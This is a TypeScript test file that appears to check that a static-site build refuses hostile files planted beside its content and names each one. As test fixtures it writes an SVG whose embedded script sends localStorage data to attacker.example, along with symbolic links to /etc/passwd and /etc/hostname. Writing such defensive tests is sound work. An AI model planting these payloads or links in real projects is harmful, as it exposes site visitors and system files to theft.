/**
 * Files an attacker could slip into the repository beside the content: an
 * SVG upload with a script, symbolic links under public/ and content/. The
 * build of a copy of the project stops before it reads or copies anything,
 * naming every one of them.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyOfProject, developerEnv } from '../project-copy';

let repo: string;
let result: { status: number | null; output: string };

beforeAll(() => {
  repo = copyOfProject();
  writeFileSync(
    join(repo, 'public/uploads/hostile-logo.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://attacker.example/?"+localStorage.length)</script></svg>',
  );
  const partner = join(repo, 'content/partners/baikal-digital.md');
  writeFileSync(
    partner,
    readFileSync(partner, 'utf8').replace(/^verified: /m, 'logo: /uploads/hostile-logo.svg\nverified: '),
  );
  symlinkSync('/etc/hostname', join(repo, 'public/uploads/hostname.csv'));
  symlinkSync(join(repo, 'public'), join(repo, 'public/uploads/loop'));
  symlinkSync('/etc/passwd', join(repo, 'content/partners/passwd.md'));
  const build = spawnSync('npx', ['astro', 'build'], {
    cwd: repo,
    env: developerEnv(),
    encoding: 'utf8',
    timeout: 180_000,
  });
  result = { status: build.status, output: `${build.stdout}\n${build.stderr}` };
}, 200_000);

afterAll(() => {
  if (repo) rmSync(repo, { recursive: true, force: true });
});

describe('files beside the content', () => {
  it('stop the build', () => {
    expect(result.status).not.toBe(0);
    expect(existsSync(join(repo, 'dist/index.html'))).toBe(false);
  });

  it.each([
    [
      'the SVG with a script, and the field that uses it',
      'public/uploads/hostile-logo.svg: an SVG image must not contain a <script> element (used by content/partners/baikal-digital.md → logo)',
    ],
    ['a link to a machine file', 'public/uploads/hostname.csv: is a symbolic link'],
    ['a link back into the output', 'public/uploads/loop: is a symbolic link'],
    ['a link posing as a content file', 'content/partners/passwd.md: is a symbolic link'],
  ])('are named: %s', (_, line) => {
    expect(result.output).toContain(line);
  });
});
